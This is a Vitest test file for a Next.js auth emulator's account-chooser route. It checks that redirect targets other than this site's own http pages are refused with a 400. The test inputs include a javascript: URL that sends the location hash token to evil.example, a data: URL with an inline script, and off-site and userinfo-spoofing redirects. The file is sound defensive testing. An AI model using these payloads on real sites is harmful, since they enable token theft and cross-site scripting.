import { NextRequest } from 'next/server';
import { describe, expect, it } from 'vitest';
import { GET } from '@/app/auth-emulator/handler/route';

/**
 * Issue 20 item 9: the emulator's account chooser, served from our origin, navigates to `redirectUrl` with the picked
 * account's token. Only an http(s) page of this site may be named; anything else is a 400 before the chooser is served.
 */

const ORIGIN = 'http://127.0.0.1:3000';
const chooser = (redirectUrl?: string) => {
  const q = new URLSearchParams({ apiKey: 'fake-api-key', appName: 'kilig-emulator', authType: 'signInViaRedirect', providerId: 'google.com', eventId: '1', v: '12' });
  if (redirectUrl !== undefined) q.set('redirectUrl', redirectUrl);
  return GET(new NextRequest(`${ORIGIN}/auth-emulator/handler?${q}`, { headers: { host: '127.0.0.1:3000' } }));
};

describe('/auth-emulator/handler redirectUrl', () => {
  it.each([
    'javascript:fetch(`//evil.example/?t=${location.hash}`)',
    ' javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'https://evil.example/steal',
    '//evil.example/steal',
    'http://127.0.0.1:3000@evil.example/',
    'https://127.0.0.1:3000/',
  ])('refuses %j with a 400 and no chooser', async (redirectUrl) => {
    const res = await chooser(redirectUrl);
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toMatch(/json/);
    expect(await res.json()).toMatchObject({ status: false, code: 'E_BAD_REQUEST' });
  });

  it('serves the chooser for a page of this site, and without any redirectUrl (the popup our client opens)', async () => {
    for (const redirectUrl of [`${ORIGIN}/episodes/episode-1-x-0123456789abcdef01234567`, undefined]) {
      const res = await chooser(redirectUrl);
      expect(res.status, String(redirectUrl)).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/text\/html/);
    }
  });
});
